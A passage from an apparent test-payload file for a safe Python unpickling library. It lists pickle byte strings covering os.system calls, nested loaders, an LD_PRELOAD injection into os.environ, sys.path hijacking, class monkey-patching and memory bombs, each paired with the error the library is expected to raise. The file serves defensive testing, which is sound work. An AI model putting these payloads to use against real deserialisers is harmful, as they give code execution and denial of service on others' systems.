            b"\x80\x04\x8c\x0eurllib.request\x8c\x0burlretrieve\x93"
            b"\x8c\x07data:,x\x8c\x06CANARY\x86R."
        ),
        technique="urllib.request.urlretrieve writes a download to disk",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # shutil.copyfile("/dev/null", "CANARY").
    Payload(
        id="shutil-copyfile-p3",
        data=(b"\x80\x03cshutil\ncopyfile\nX\t\x00\x00\x00/dev/nullX\x06\x00\x00\x00CANARY\x86R."),
        technique="shutil.copyfile writes a file",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # codecs.open("CANARY", "w").
    Payload(
        id="codecs-open-p3",
        data=b"\x80\x03ccodecs\nopen\nX\x06\x00\x00\x00CANARYX\x01\x00\x00\x00w\x86R.",
        technique="codecs.open for writing",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # zipfile.ZipFile("CANARY", "w").
    Payload(
        id="zipfile-p3",
        data=b"\x80\x03czipfile\nZipFile\nX\x06\x00\x00\x00CANARYX\x01\x00\x00\x00w\x86R.",
        technique="zipfile.ZipFile creates an archive",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # tarfile.open("CANARY", "w").
    Payload(
        id="tarfile-p3",
        data=b"\x80\x03ctarfile\nopen\nX\x06\x00\x00\x00CANARYX\x01\x00\x00\x00w\x86R.",
        technique="tarfile.open creates an archive",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # sqlite3.connect("CANARY"): creates the database file.
    Payload(
        id="sqlite3-connect-p3",
        data=b"\x80\x03csqlite3\nconnect\nX\x06\x00\x00\x00CANARY\x85R.",
        technique="sqlite3.connect creates a database file",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # threading.Thread.start(threading.Thread(None, os.system, None, ("touch CANARY",))).
    Payload(
        id="threading-thread-start-p4",
        data=(
            b"\x80\x04\x8c\x09threading\x8c\x0cThread.start\x93\x8c\x09threading\x8c\x06Thread"
            b"\x93(N\x8c\x02os\x8c\x06system\x93N\x8c\x0ctouch CANARY\x85tR\x85R."
        ),
        technique="threading.Thread started with os.system as target",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # logging.config.dictConfig({"version": 1, "handlers": {"h": {"class":
    # "logging.FileHandler", "filename": "CANARY"}}}): the handler opens its file.
    Payload(
        id="logging-config-dictconfig-p1",
        data=(
            b"clogging.config\ndictConfig\n(}(X\x07\x00\x00\x00versionK\x01"
            b"X\x08\x00\x00\x00handlers}X\x01\x00\x00\x00h}(X\x05\x00\x00\x00class"
            b"X\x13\x00\x00\x00logging.FileHandlerX\x08\x00\x00\x00filename"
            b"X\x06\x00\x00\x00CANARYusutR."
        ),
        technique="logging.config.dictConfig creating a FileHandler",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # ---------------------------------------------------------------------------------------
    # Nested loaders: another deserialiser that would run _INNER without our checks
    # ---------------------------------------------------------------------------------------
    # pickle.loads(_INNER).
    Payload(
        id="pickle-loads-p3",
        data=b"\x80\x03cpickle\nloads\nC\x1f" + _INNER + b"\x85R.",
        technique="pickle.loads nested loader",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # _pickle.loads(_INNER): the C module directly.
    Payload(
        id="c-pickle-loads-p4",
        data=b"\x80\x04\x8c\x07_pickle\x8c\x05loads\x93C\x1f" + _INNER + b"\x85R.",
        technique="_pickle.loads nested loader",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # pickle._loads(_INNER): the pure-Python unpickler.
    Payload(
        id="pickle-pure-python-loads-p3",
        data=b"\x80\x03cpickle\n_loads\nC\x1f" + _INNER + b"\x85R.",
        technique="pickle._loads pure-Python nested loader",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # pickle.Unpickler.load(pickle.Unpickler(io.BytesIO(_INNER))).
    Payload(
        id="pickle-unpickler-load-p4",
        data=(
            b"\x80\x04\x8c\x06pickle\x8c\x0eUnpickler.load\x93\x8c\x06pickle\x8c\x09Unpickler"
            b"\x93\x8c\x02io\x8c\x07BytesIO\x93C\x1f" + _INNER + b"\x85R\x85R\x85R."
        ),
        technique="pickle.Unpickler over io.BytesIO, load as an unbound method",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # dill.loads(_INNER).
    Payload(
        id="dill-loads-p4",
        data=b"\x80\x04\x8c\x04dill\x8c\x05loads\x93C\x1f" + _INNER + b"\x85R.",
        technique="dill.loads nested loader",
        expect=ForbiddenGlobal,
        live=True,
        needs=("dill",),
    ),
    # joblib.load(io.BytesIO(_INNER)).
    Payload(
        id="joblib-load-p4",
        data=(
            b"\x80\x04\x8c\x06joblib\x8c\x04load\x93\x8c\x02io\x8c\x07BytesIO\x93C\x1f"
            + _INNER
            + b"\x85R\x85R."
        ),
        technique="joblib.load nested loader",
        expect=ForbiddenGlobal,
        live=True,
        needs=("joblib",),
    ),
    # numpy.load(io.BytesIO(_INNER), None, True): allow_pickle is its third positional.
    Payload(
        id="numpy-load-allow-pickle-p4",
        data=(
            b"\x80\x04\x8c\x05numpy\x8c\x04load\x93\x8c\x02io\x8c\x07BytesIO\x93C\x1f"
            + _INNER
            + b"\x85RN\x88\x87R."
        ),
        technique="numpy.load with allow_pickle=True",
        expect=ForbiddenGlobal,
        live=True,
        needs=("numpy",),
    ),
    # torch.load(io.BytesIO(_INNER)): runs it on torch < 2.6 (weights_only=False default).
    Payload(
        id="torch-load-p4",
        data=(
            b"\x80\x04\x8c\x05torch\x8c\x04load\x93\x8c\x02io\x8c\x07BytesIO\x93C\x1f"
            + _INNER
            + b"\x85R\x85R."
        ),
        technique="torch.load nested loader",
        expect=ForbiddenGlobal,
        why_not_live="torch >= 2.6 defaults to weights_only=True; older torch runs it",
    ),
    # shelve.Shelf.get(shelve.Shelf({b"k": _INNER}), "k"): a shelf unpickles its values.
    Payload(
        id="shelve-shelf-get-p4",
        data=(
            b"\x80\x04\x8c\x06shelve\x8c\x09Shelf.get\x93\x8c\x06shelve\x8c\x05Shelf\x93"
            b"}C\x01kC\x1f" + _INNER + b"s\x85R\x8c\x01k\x86R."
        ),
        technique="shelve.Shelf over a dict unpickles its values",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # shelve.open("CANARY"): creates the dbm file(s), and unpickles whatever is in them.
    Payload(
        id="shelve-open-p3",
        data=b"\x80\x03cshelve\nopen\nX\x06\x00\x00\x00CANARY\x85R.",
        technique="shelve.open creates a database file",
        expect=ForbiddenGlobal,
        why_not_live="the file names depend on the dbm backend (CANARY.dat with dbm.dumb)",
    ),
    # mailbox.Maildir("CANARY"): creates the mail directory (mailbox is not on the floor).
    Payload(
        id="mailbox-maildir-p3",
        data=b"\x80\x03cmailbox\nMaildir\nX\x06\x00\x00\x00CANARY\x85R.",
        technique="mailbox.Maildir creates a directory",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # ---------------------------------------------------------------------------------------
    # State changes aimed at globals: BUILD, SETITEM(S), APPEND(S), ADDITEMS
    # ---------------------------------------------------------------------------------------
    # BUILD on the class fractions.Fraction with slot state {"__setstate__": os.system}
    # (setattr on the class), then a Fraction built by NEWOBJ and BUILT with "touch CANARY":
    # its __setstate__ is now os.system.
    Payload(
        id="build-patches-allowed-class-p2",
        data=(
            b"\x80\x02cfractions\nFraction\nq\x00N}X\x0c\x00\x00\x00__setstate__cos\nsystem\n"
            b"s\x86b0h\x00)\x81X\x0c\x00\x00\x00touch CANARYb."
        ),
        technique="BUILD monkey-patching an allowed class's __setstate__",
        expect=UnsafeOpcode,
        live=True,
    ),
    # The same patch on ipaddress.IPv4Address, with the class fetched back from the memo.
    Payload(
        id="build-patches-class-from-memo-p4",
        data=(
            b"\x80\x04\x8c\x09ipaddress\x8c\x0bIPv4Address\x93\x940h\x00"
            b"N}\x8c\x0c__setstate__\x8c\x02os\x8c\x06system\x93s\x86b0h\x00)\x81"
            b"\x8c\x0ctouch CANARYb."
        ),
        technique="BUILD on an allowed class fetched from the memo",
        expect=UnsafeOpcode,
        live=True,
    ),
    # BUILD on datetime.datetime with slot state {"now": os.system}: would make every
    # datetime.now() in the process call os.system (a C type refuses, a Python class would not).
    Payload(
        id="build-datetime-class-p2",
        data=b"\x80\x02cdatetime\ndatetime\nN}X\x03\x00\x00\x00nowcos\nsystem\ns\x86b.",
        technique="BUILD setting an attribute on datetime.datetime",
        expect=UnsafeOpcode,
        why_not_live="CPython refuses setattr on a C type; the attempt is what matters",
    ),
    # BUILD on the result of the getattr shape: Fraction.from_float is an imported global.
    Payload(
        id="build-on-getattr-result-p3",
        data=(
            b"\x80\x03cbuiltins\ngetattr\ncfractions\nFraction\nX\x0a\x00\x00\x00from_float"
            b"\x86R}b."
        ),
        technique="BUILD on the value getattr(<global>, name) returns",
        expect=UnsafeOpcode,
        why_not_live="functions have a __dict__: it would only add an attribute",
    ),
    # copyreg._inverted_registry[12345] = ("os", "system") by SETITEM on the global dict,
    # then EXT2 12345 loads os.system: no registration function needed.
    Payload(
        id="setitem-extension-registry-p2",
        data=(
            b"\x80\x02ccopyreg\n_inverted_registry\nM90X\x02\x00\x00\x00osX\x06\x00\x00\x00"
            b"system\x86s0\x8390X\x0c\x00\x00\x00touch CANARY\x85R."
        ),
        technique="SETITEM into copyreg._inverted_registry, then EXT2",
        expect=UnsafeOpcode,
        live=True,
    ),
    # os.environ.update(LD_PRELOAD=...) by SETITEMS: every later child process loads it.
    Payload(
        id="setitems-os-environ-p1",
        data=b"cos\nenviron\n(X\n\x00\x00\x00LD_PRELOADX\x0c\x00\x00\x00/tmp/evil.sou.",
        technique="SETITEMS into os.environ",
        expect=UnsafeOpcode,
        why_not_live="changes the environment of later child processes; nothing is written",
    ),
    # sys.path.append("."): a later import picks modules up from the attacker's directory.
    Payload(
        id="append-sys-path-p2",
        data=b"\x80\x02csys\npath\nX\x01\x00\x00\x00.a.",
        technique="APPEND to sys.path",
        expect=UnsafeOpcode,
        why_not_live="hijacks later imports; nothing is written",
    ),
    # sys.path.extend(["."]) by APPENDS.
    Payload(
        id="appends-sys-path-p1",
        data=b"csys\npath\n(X\x01\x00\x00\x00.e.",
        technique="APPENDS to sys.path",
        expect=UnsafeOpcode,
        why_not_live="hijacks later imports; nothing is written",
    ),
    # os.supports_fd.add(os.system) by ADDITEMS on a global set.
    Payload(
        id="additems-global-set-p4",
        data=b"\x80\x04\x8c\x02os\x8c\x0bsupports_fd\x93(\x8c\x02os\x8c\x06system\x93\x90.",
        technique="ADDITEMS into a global set",
        expect=UnsafeOpcode,
        why_not_live="changes a process-wide set; nothing is written",
    ),
    # collections.OrderedDict["k"] = "v": SETITEM aimed at an allowed class itself.
    Payload(
        id="setitem-on-allowed-class-p2",
        data=b"\x80\x02ccollections\nOrderedDict\nX\x01\x00\x00\x00kX\x01\x00\x00\x00vs.",
        technique="SETITEM aimed at an allowed class",
        expect=UnsafeOpcode,
        why_not_live="a class has no item assignment; the attempt is what matters",
    ),
    # uuid.SafeUUID(0) returns the process-wide enum member SafeUUID.safe (not a new object);
    # BUILD then writes into its __dict__: every UUID in the process now carries the attribute.
    # (Found by this suite; refused since 82a9e2d.)
    Payload(
        id="build-shared-singleton-p2",
        data=(
            b"\x80\x02cuuid\nSafeUUID\nK\x00\x85R}X\x15\x00\x00\x00safepickle_test_pwnedK\x01sb."
        ),
        technique="BUILD on a process-wide singleton an allowed constructor returned",
        expect=SafePickleError,
        why_not_live="changes the shared uuid.SafeUUID.safe member; nothing is written",
    ),
    # ---------------------------------------------------------------------------------------
    # Extensions and persistent ids
    # ---------------------------------------------------------------------------------------
    # EXT1/EXT2/EXT4: a global from copyreg's extension registry, by number.
    Payload(
        id="ext1-p2",
        data=b"\x80\x02\x82\x01.",
        technique="EXT1",
        expect=UnsafeOpcode,
        why_not_live="nothing is registered under the code",
    ),
    Payload(
        id="ext2-p2",
        data=b"\x80\x02\x83\x01\x02.",
        technique="EXT2",
        expect=UnsafeOpcode,
        why_not_live="nothing is registered under the code",
    ),
    Payload(
        id="ext4-p2",
        data=b"\x80\x02\x84\x01\x02\x03\x04.",
        technique="EXT4",
        expect=UnsafeOpcode,
        why_not_live="nothing is registered under the code",
    ),
    # EXT2 12345 while ("os", "system") is registered under 12345: os.system("touch CANARY").
    Payload(
        id="ext2-registered-os-system-p2",
        data=b"\x80\x02\x8390X\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="EXT2 of a code registered for os.system",
        expect=UnsafeOpcode,
        live=True,
        extension=("os", "system", 12345),
    ),
    # PERSID / BINPERSID with no plugin to resolve them.
    Payload(
        id="persid-p0",
        data=b"Pfoo\n.",
        technique="PERSID without a persistent_load plugin",
        expect=UnsafeOpcode,
        why_not_live="plain pickle has no persistent_load either",
    ),
    Payload(
        id="binpersid-p1",
        data=b"X\x03\x00\x00\x00fooQ.",
        technique="BINPERSID without a persistent_load plugin",
        expect=UnsafeOpcode,
        why_not_live="plain pickle has no persistent_load either",
    ),
    # ---------------------------------------------------------------------------------------
    # STACK_GLOBAL whose operands are not str constants, or fetched from the memo
    # ---------------------------------------------------------------------------------------
    # os and system memoized, popped, fetched back by BINGET: os.system("touch CANARY").
    Payload(
        id="stack-global-memo-operands-p4",
        data=(
            b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93\x8c\x0ctouch CANARY\x85R."
        ),
        technique="STACK_GLOBAL with operands fetched from the memo",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # Operands made by str("os") and str("system") calls: unknowable before they run.
    Payload(
        id="stack-global-reduce-operands-p4",
        data=(
            b"\x80\x04\x8c\x08builtins\x8c\x03str\x93\x94\x8c\x02os\x85Rh\x00"
            b"\x8c\x06system\x85R\x93\x8c\x0ctouch CANARY\x85R."
        ),
        technique="STACK_GLOBAL with operands computed by REDUCE",
        expect=UnsafeOpcode,
        live=True,
    ),
    # Operands that are bytes, not str.
    Payload(
        id="stack-global-bytes-operands-p4",
        data=b"\x80\x04C\x02osC\x06system\x93.",
        technique="STACK_GLOBAL with bytes operands",
        expect=UnsafeOpcode,
        why_not_live="plain pickle refuses bytes operands too",
    ),
    # Module operand is a memo GET of an int.
    Payload(
        id="stack-global-memo-non-string-p4",
        data=b"\x80\x04K\x01\x940h\x00\x8c\x06system\x93.",
        technique="STACK_GLOBAL with a non-string operand from the memo",
        expect=UnsafeOpcode,
        why_not_live="plain pickle refuses a non-str operand too",
    ),
    # Operands as BINUNICODE8.
    Payload(
        id="stack-global-binunicode8-p4",
        data=(
            b"\x80\x04\x8d\x02\x00\x00\x00\x00\x00\x00\x00os"
            b"\x8d\x06\x00\x00\x00\x00\x00\x00\x00system\x93\x8c\x0ctouch CANARY\x85R."
        ),
        technique="STACK_GLOBAL with BINUNICODE8 operands",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # ---------------------------------------------------------------------------------------
    # REDUCE / NEWOBJ / OBJ whose callable is not a global
    # ---------------------------------------------------------------------------------------
    Payload(
        id="reduce-on-list-p4",
        data=b"\x80\x04])R.",
        technique="REDUCE on a list",
        expect=UnsafeOpcode,
        why_not_live="a list is not callable",
    ),
    Payload(
        id="reduce-on-str-p4",
        data=b"\x80\x04\x8c\x04eval)R.",
        technique="REDUCE on a str",
        expect=UnsafeOpcode,
        why_not_live="a str is not callable",
    ),
    # object()() : REDUCE on what an allowed call returned.
    Payload(
        id="reduce-on-allowed-call-result-p4",
        data=b"\x80\x04\x8c\x08builtins\x8c\x06object\x93)R)R.",
        technique="REDUCE on the result of an allowed call",
        expect=UnsafeOpcode,
        why_not_live="an object instance is not callable",
    ),
    Payload(
        id="newobj-on-call-result-p2",
        data=b"\x80\x02c__builtin__\nstr\nX\x01\x00\x00\x00a\x85R)\x81.",
        technique="NEWOBJ on the result of a call",
        expect=UnsafeOpcode,
        why_not_live="a str is not a class",
    ),
    Payload(
        id="obj-on-list-p1",
        data=b"(]o.",
        technique="OBJ with a list as the class",
        expect=UnsafeOpcode,
        why_not_live="a list is not callable",
    ),
    # ---------------------------------------------------------------------------------------
    # The Python 3.14 nested-class shape getattr(<global>, "name"), abused
    # ---------------------------------------------------------------------------------------
    # getattr(getattr(os.path, "os"), "system")("touch CANARY"): the shape, nested, on a
    # dangerous parent; getattr memoized and fetched once.
    Payload(
        id="getattr-shape-dangerous-parent-p3",
        data=(
            b"\x80\x03cbuiltins\ngetattr\nq\x00h\x00cos\npath\nX\x02\x00\x00\x00os\x86R"
            b"X\x06\x00\x00\x00system\x86RX\x0c\x00\x00\x00touch CANARY\x85R."
        ),
        technique="getattr shape nested on a dangerous parent",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # getattr(pathlib.Path, "touch")(pathlib.Path("CANARY")): the exact shape, names harmless
    # looking; pathlib.Path.touch is what gets called.
    Payload(
        id="getattr-shape-method-p3",
        data=(
            b"\x80\x03cbuiltins\ngetattr\ncpathlib\nPath\nX\x05\x00\x00\x00touch\x86R"
            b"cpathlib\nPath\nX\x06\x00\x00\x00CANARY\x85R\x85R."
        ),
        technique="getattr shape reaching a method, then calling it",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # getattr(pathlib.Path, str("touch")): the name is not a constant.
    Payload(
        id="getattr-nonconstant-name-p3",
        data=(
            b"\x80\x03cbuiltins\ngetattr\ncpathlib\nPath\ncbuiltins\nstr\n"
            b"X\x05\x00\x00\x00touch\x85R\x86Rcpathlib\nPath\nX\x06\x00\x00\x00CANARY\x85R\x85R."
        ),
        technique="getattr with a name computed by a call",
        expect=UnsafeOpcode,
        live=True,
    ),
    # getattr memoized, used once in the shape, then fetched and called as
    # getattr(Path("CANARY"), "touch")() on an object.
    Payload(
        id="getattr-memo-other-args-p3",
        data=(
            b"\x80\x03cbuiltins\ngetattr\nq\x00cfractions\nFraction\n"
            b"X\x0a\x00\x00\x00from_float\x86R0h\x00cpathlib\nPath\nX\x06\x00\x00\x00CANARY"
            b"\x85RX\x05\x00\x00\x00touch\x86R)R."
        ),
        technique="getattr memoized, then called on a non-global",
        expect=UnsafeOpcode,
        live=True,
    ),
    # getattr DUPed: one copy in the shape, the other handed to functools.reduce as
    # reduce(getattr, ["system"], fnmatch.os), whose result map() calls (fnmatch.os, not
    # pathlib.os: 3.13's pathlib package has no os attribute).
    Payload(
        id="getattr-dup-into-reduce-p3",
        data=(
            b"\x80\x03cbuiltins\nlist\ncbuiltins\nmap\ncfunctools\nreduce\ncbuiltins\ngetattr\n2"
            b"cfractions\nFraction\nX\x0a\x00\x00\x00from_float\x86R0"
            b"]X\x06\x00\x00\x00systemacfnmatch\nos\n\x87R"
            b"]X\x0c\x00\x00\x00touch CANARYa\x86R\x85R."
        ),
        technique="getattr DUPed: one copy in the shape, one passed as data",
        expect=ForbiddenGlobal,
        live=True,
    ),
    # [getattr]: the function itself handed to the caller in a list.
    Payload(
        id="getattr-in-list-p3",
        data=b"\x80\x03]cbuiltins\ngetattr\na.",
        technique="builtins.getattr put in a list and returned",
        expect=ForbiddenGlobal,
        why_not_live="hands getattr to the caller; nothing runs",
    ),
    # getattr spelled __builtin__.getattr and builtins.getattr in one stream.
    Payload(
        id="getattr-two-spellings-p2",
        data=b"\x80\x02c__builtin__\ngetattr\n0cbuiltins\ngetattr\n0N.",
        technique="builtins.getattr spelled two ways in one stream",
        expect=ForbiddenGlobal,
        why_not_live="nothing is called",
    ),
    # ---------------------------------------------------------------------------------------
    # Re-exports and import side effects (modules written at test time)
    # ---------------------------------------------------------------------------------------
    # mymod.call(["touch", "CANARY"]) with allow=["mymod:*"]: mymod.call is subprocess.call.
    Payload(
        id="reexport-under-wildcard-p4",
        data=b"\x80\x04\x8c\x05mymod\x8c\x04call\x93](\x8c\x05touch\x8c\x06CANARYe\x85R.",
        technique="re-export of subprocess.call admitted by a module wildcard",
        expect=ForbiddenGlobal,
        live=True,
        allow=("mymod:*",),
        modules=(_MYMOD,),
    ),
    # mymod.run("touch CANARY") with allow=["mymod:run"] exactly: run is os.system.
    Payload(
        id="reexport-exact-allow-p2",
        data=b"\x80\x02cmymod\nrun\nX\x0c\x00\x00\x00touch CANARY\x85R.",
        technique="exact allow-list entry naming a re-export of os.system",
        expect=ForbiddenGlobal,
        live=True,
        allow=("mymod:run",),
        modules=(_MYMOD,),
    ),
    # mymod.loads(_INNER) with allow=["mymod:*"]: loads is pickle.loads.
    Payload(
        id="reexport-loader-under-wildcard-p3",
        data=b"\x80\x03cmymod\nloads\nC\x1f" + _INNER + b"\x85R.",
        technique="re-export of pickle.loads admitted by a module wildcard",
        expect=ForbiddenGlobal,
        live=True,
        allow=("mymod:*",),
        modules=(_MYMOD,),
    ),
    # canarymod.Thing: importing canarymod creates CANARY.
    Payload(
        id="import-side-effect-p2",
        data=b"\x80\x02ccanarymod\nThing\n)\x81.",
        technique="a module whose import is the exploit",
        expect=ForbiddenGlobal,
        live=True,
        modules=(_CANARYMOD,),
    ),
    # uuid.UUID (allowed) next to canarymod.Thing: no import at all may happen.
    Payload(
        id="import-side-effect-beside-allowed-p4",
        data=(b"\x80\x04\x8c\x04uuid\x8c\x04UUID\x930\x8c\x09canarymod\x8c\x05Thing\x93)\x81."),
        technique="import side effect next to an allowed global",
        expect=ForbiddenGlobal,
        live=True,
        modules=(_CANARYMOD,),
    ),
    # canarymod.Thing while the policy allows canarymod.Other: a name of the module is allowed,
    # but not this one, so the module must still not be imported.
    Payload(
        id="import-side-effect-sibling-allowed-p3",
        data=b"\x80\x03ccanarymod\nThing\n)\x81.",
        technique="import side effect when another name of the module is allowed",
        expect=ForbiddenGlobal,
        live=True,
        allow=("canarymod:Other",),
        modules=(_CANARYMOD,),
    ),
    # ---------------------------------------------------------------------------------------
    # Floor gaps: file primitives a plausible allow-list admits (found by this suite; on the
    # floor since 2bf3016)
    # ---------------------------------------------------------------------------------------
    # pathlib.Path.touch(pathlib.PosixPath("CANARY")) with allow=["pathlib:*"], the natural
    # entry for unpickling Path objects. write_text/write_bytes/unlink are on the floor;
    # touch, mkdir, open, rename, symlink_to... are not.
    Payload(
        id="pathlib-touch-under-wildcard-p4",
        data=(
            b"\x80\x04\x8c\x07pathlib\x8c\x0aPath.touch\x93\x8c\x07pathlib\x8c\x09PosixPath\x93"
            b"\x8c\x06CANARY\x85R\x85R."
        ),
        technique="pathlib.Path.touch admitted by pathlib:*",
        expect=ForbiddenGlobal,
        live=True,
        allow=("pathlib:*",),
    ),
    # pathlib.Path.mkdir(pathlib.PosixPath("CANARY")) with allow=["pathlib:*"].
    Payload(
        id="pathlib-mkdir-under-wildcard-p4",
        data=(
            b"\x80\x04\x8c\x07pathlib\x8c\x0aPath.mkdir\x93\x8c\x07pathlib\x8c\x09PosixPath\x93"
            b"\x8c\x06CANARY\x85R\x85R."
        ),
        technique="pathlib.Path.mkdir admitted by pathlib:*",
        expect=ForbiddenGlobal,
        live=True,
        allow=("pathlib:*",),
    ),
    # _pyio.TextIOWrapper.close(_pyio.open("CANARY", "w")) with allow=["_pyio:*"]: _pyio is the
    # pure-Python twin of io (on the floor) and its open is builtins.open.
    Payload(
        id="pyio-open-under-wildcard-p4",
        data=(
            b"\x80\x04\x8c\x05_pyio\x8c\x13TextIOWrapper.close\x93"
            b"\x8c\x05_pyio\x8c\x04open\x93\x8c\x06CANARY\x8c\x01w\x86R\x85R."
        ),
        technique="_pyio.open, the pure-Python twin of the io floor",
        expect=SafePickleError,
        live=True,
        allow=("_pyio:*",),
    ),
    # gzip.GzipFile.close(gzip.open("CANARY", "wb")) with allow=["gzip:*"]: zipfile and
    # tarfile are on the floor, gzip/bz2/lzma file openers are not.
    Payload(
        id="gzip-open-under-wildcard-p4",
        data=(
            b"\x80\x04\x8c\x04gzip\x8c\x0eGzipFile.close\x93"
            b"\x8c\x04gzip\x8c\x04open\x93\x8c\x06CANARY\x8c\x02wb\x86R\x85R."
        ),
        technique="gzip.open creates a file",
        expect=SafePickleError,
        live=True,
        allow=("gzip:*",),
    ),
    # ---------------------------------------------------------------------------------------
    # Several pickles in one input, garbage after STOP
    # ---------------------------------------------------------------------------------------
    # None, then os.system("touch CANARY") as a second pickle: a loop of pickle.load runs it.
    Payload(
        id="second-pickle-hostile-p0",
        data=b"N." + _INNER,
        technique="benign pickle followed by a hostile second pickle",
        expect=MalformedPickle,
        live=True,
        loads_only=True,
    ),
    Payload(
        id="garbage-after-stop-p0",
        data=b"N.\xff\xfe",
        technique="garbage after STOP",
        expect=MalformedPickle,
        why_not_live="plain pickle.loads ignores the garbage",
        loads_only=True,
    ),
    # ---------------------------------------------------------------------------------------
    # Malformed streams: every one must be refused before the C unpickler sees it
    # ---------------------------------------------------------------------------------------
    Payload(
        id="empty-input",
        data=b"",
        technique="empty input",
        expect=TruncatedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="truncated-in-argument-p4",
        data=b"\x80\x04\x8c\x08buil",
        technique="truncated inside an opcode argument",
        expect=TruncatedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="truncated-before-stop-p4",
        data=b"\x80\x04N",
        technique="no STOP opcode",
        expect=TruncatedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="unknown-opcode-p4",
        data=b"\x80\x04\xff.",
        technique="unknown opcode byte",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="unknown-first-byte",
        data=b"\x00.",
        technique="unknown first byte",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="proto-6",
        data=b"\x80\x06N.",
        technique="PROTO 6, beyond the highest protocol",
        expect=MalformedPickle,
        why_not_live="plain pickle refuses it too",
    ),
    # CPython accepts PROTO anywhere; a stream that switches protocol midway is never written.
    Payload(
        id="proto-not-first",
        data=b"N\x80\x02.",
        technique="PROTO after the first opcode",
        expect=MalformedPickle,
        why_not_live=_SETTLED,
    ),
    Payload(
        id="setitems-odd-items-p1",
        data=b"}(Nu.",
        technique="SETITEMS with an odd number of items",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="dict-odd-items-p0",
        data=b"(Nd.",
        technique="DICT with an odd number of items",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="underflow-reduce",
        data=b"R.",
        technique="REDUCE on an empty stack",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="underflow-stop",
        data=b".",
        technique="STOP on an empty stack",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="underflow-through-mark",
        data=b"N(NR.",
        technique="REDUCE reaching below a MARK",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="underflow-append-through-mark-p1",
        data=b"]N(a.",
        technique="APPEND reaching below a MARK",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="binstring-negative-length-p1",
        data=b"T\xff\xff\xff\xff.",
        technique="BINSTRING with a negative length",
        expect=MalformedPickle,
        why_not_live="not a pickle",
    ),
    Payload(
        id="next-buffer-without-buffers-p5",
        data=b"\x80\x05\x97.",
        technique="NEXT_BUFFER with no buffers given",
        expect=MalformedPickle,
        why_not_live="plain pickle refuses it too",
    ),
    # ---------------------------------------------------------------------------------------
    # Resource bombs: a safepickle error in bounded time and memory
    # ---------------------------------------------------------------------------------------
    # EMPTY_LIST then LONG_BINPUT with index b"epla" (1.6 billion): CPython 3.11-3.13 size the
    # memo to the index: 9 bytes that exhaust memory.
    Payload(
        id="memo-bomb-replace",
        data=b"]replace.",
        technique="9-byte memo bomb (LONG_BINPUT index from ASCII)",
        expect=LimitExceeded,
        why_not_live="exhausts memory",
        bomb=True,
    ),
    Payload(
        id="long-binput-huge-index-p1",
        data=b"Nr\xff\xff\xff\x7f.",
        technique="LONG_BINPUT with a 2**31-1 index",
        expect=LimitExceeded,
        why_not_live="exhausts memory",
        bomb=True,
    ),
    Payload(
        id="put-huge-index-p0",
        data=b"Np99999999999\n.",
        technique="PUT with an 11-digit index",
        expect=LimitExceeded,
        why_not_live="exhausts memory",
        bomb=True,
    ),
    Payload(
        id="put-30-digit-index-p0",
        data=b"Np" + b"9" * 30 + b"\n.",
        technique="PUT with a 30-digit index",
        expect=MalformedPickle,
        why_not_live="plain pickle overflows",
        bomb=True,
    ),
    Payload(
        id="binget-unwritten-p1",
        data=b"h\x05.",
        technique="BINGET of an index never written",
        expect=MalformedPickle,
        why_not_live="plain pickle refuses it too",
        bomb=True,
    ),
    Payload(
        id="long-binget-unwritten-p1",
        data=b"j\xff\xff\xff\xff.",
        technique="LONG_BINGET of an index never written",
        expect=MalformedPickle,
        why_not_live="plain pickle refuses it too",
        bomb=True,
    ),
    Payload(
        id="binbytes8-claims-8eib-p4",
        data=b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
        technique="BINBYTES8 length claiming 8 EiB",
        expect=TruncatedPickle,
        why_not_live="plain pickle refuses it too",
        bomb=True,
    ),
    Payload(
        id="binunicode8-claims-4gib-p4",
        data=b"\x80\x04\x8d\x00\x00\x00\x00\x01\x00\x00\x00.",
        technique="BINUNICODE8 length claiming 4 GiB",
        expect=TruncatedPickle,
        why_not_live="allocates before reading",
        bomb=True,
    ),
    Payload(
        id="bytearray8-claims-8eib-p5",
        data=b"\x80\x05\x96\xff\xff\xff\xff\xff\xff\xff\x7f.",
        technique="BYTEARRAY8 length claiming 8 EiB",
        expect=TruncatedPickle,
        why_not_live="plain pickle refuses it too",
        bomb=True,
    ),
    Payload(
        id="frame-claims-4gib-p4",
        data=b"\x80\x04\x95\x00\x00\x00\x00\x01\x00\x00\x00N.",
        technique="FRAME length claiming 4 GiB",
        expect=TruncatedPickle,
        why_not_live="allocates the frame before reading",
        bomb=True,
    ),
    Payload(
        id="binunicode-claims-4gib-p1",
        data=b"X\xff\xff\xff\xffxxxxxxxx.",
        technique="BINUNICODE length claiming 4 GiB",
        expect=TruncatedPickle,
        why_not_live="allocates before reading",
        bomb=True,
